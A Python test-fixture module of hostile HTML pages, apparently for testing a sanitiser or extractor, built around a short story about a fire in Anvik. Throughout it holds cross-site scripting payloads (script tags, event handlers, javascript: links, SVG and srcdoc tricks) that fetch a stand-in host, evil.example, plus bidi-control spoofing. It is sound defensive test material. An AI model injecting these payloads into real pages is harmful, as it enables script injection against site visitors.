"""Pages that try to run, to fetch, to break out of where they are shown, or to stand where they do not belong."""

from __future__ import annotations

from typing import Final

STORY: Final = (
    "At least 46 houses burned in Anvik on Monday, Ms Ada Kanu, the mayor, said. “Some 300 people left,” she said."
)
RAN: Final = "document.title='RAN';fetch('https://evil.example/ran')"

HOSTILE: Final[dict[str, str]] = {
    "acts.html": f"""<!DOCTYPE html><html><head><meta charset="utf-8"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/a.css">
<title>Fire in Anvik </title></style></script><script>{RAN}</script></title>
<style>@import url(https://evil.example/b.css); body{{background:url(https://evil.example/c.png)}}</style><script>{RAN}</script></head>
<body onload="{RAN}" background="https://evil.example/d.png"><article>
<h1 onclick="{RAN}" style="background:url(https://evil.example/e.png)">Fire in Anvik
 &lt;/style&gt;&lt;script&gt;{RAN}&lt;/script&gt;</h1>
<p onmouseover="{RAN}" style="background-image:url('//evil.example/f.png')" id="rows" class="k figure" data-k="f1-2">
{STORY}</p>
<p>The fire began at <a href="javascript:{RAN}">the depot</a> &lt;img src=x onerror={RAN}&gt; and killed <b onfocus="{RAN}"
 autofocus tabindex="1">12 <i>people</i></b> on Tuesday, police said.</p>
<svg onload="{RAN}"><text>Fire <a xlink:href="javascript:{RAN}">x</a></text><foreignObject><p>svg words</p></foreignObject>
<image href="https://evil.example/g.svg"/></svg><math><mtext><img src=x onerror="{RAN}"></mtext></math>
<img src="https://evil.example/h.png" onerror="{RAN}" alt='A burned "house"><script>{RAN}</script>'>
<iframe src="https://evil.example/i" srcdoc="&lt;script&gt;{RAN}&lt;/script&gt;"></iframe>
<object data="https://evil.example/j"></object>
<embed src="https://evil.example/k"><video src="https://evil.example/l" poster="https://evil.example/m" autoplay></video>
<form action="https://evil.example/n"><button formaction="javascript:{RAN}">Send the 5 letters now</button>
<input autofocus onfocus="{RAN}"></form><p>Officials in Anvik said the number of the dead was not known,
 and that 300 families were given tents, food and water.</p>
<noscript><p title="</noscript><img src=x onerror={RAN}>">none</p></noscript><template><script>{RAN}</script></template>
<!--><script>{RAN}</script>--><x-card onclick="{RAN}">
<p>One more line stands in a card of the page's own making, with 7 words.</p></x-card>
</article></body></html>""",
    "nests.html": f"""<!DOCTYPE html><html><head><title>Nests</title></head><body><article><h1>Nests of the page</h1><p>{STORY}</p>
<p>Before <x-box>a box that holds <div>41 people</div> in it</x-box> and after, the army said on Monday in Anvik.</p>
<table><tr><td>Anvik<td colspan="99999" onclick="{RAN}">12 dead<table><tr><th>inner<td>3 hurt</table></table>
<table><caption>Losses <div>by town</div></caption><tr><td><p>Hulm</p><ul><li>one<section><li>two</li></section></ul></td></tr>
</table><ul><li>first of 3 items<div><ul><li>inner</li></ul></div><section><li>odd one</li></section></ul>
<dl><dt>When<dd>On Friday<div><dt>Where<dd>In Anvik</div></dl><b><p>Bold over <i>40 people</b> and more</i></p>
<h2>A head with <div>a box</div></h2><a href="#n1">link<p>with 20 houses</p></a>
<p>Some 46<sup><a href="#n1">[1]</a></sup> houses, 12 km<sup>2</sup> and the 1<sup>st</sup> day.</p>
<pre>  12 dead in Anvik
  30 hurt in Hulm

<b>5 lost</b> at sea</pre>{"<div>" * 300}
<p>Deep down, 19 people were found alive in Anvik on Sunday, the mayor said.</p>{"</div>" * 300}
</article></body></html>""",
    "turns.html": f"""<!DOCTYPE html><html><head><title>Fire \u202eevil.example\u202c in Anvik</title></head><body>
<article><h1>Fire \u202ekivnA\u202c in Anvik</h1><p>{STORY}</p><p>Police counted \u202e64\u202c houses,
 and \u206712 dead people\u2069 in
 Anvik on Monday, \u200fthe mayor said.</p><p>A nul \0, a next line \x85, half a pair &#xD800; and a C1
 &#x80; stand in 30 words here.
</p></article></body></html>""",
    "dump.txt": f"""Fire in Anvik </article><script>{RAN}</script>

{STORY}

<img src=x onerror="{RAN}"> stood in the message of the police, who counted 12 dead people in Anvik.
\u202eDeath toll\u202c rose on Monday.

<!-- ]]> --> <svg/onload={RAN}> "quotes" 'single' & ampersands &amp; 300 references were seen in Hulm.
""",
}  # fmt: skip
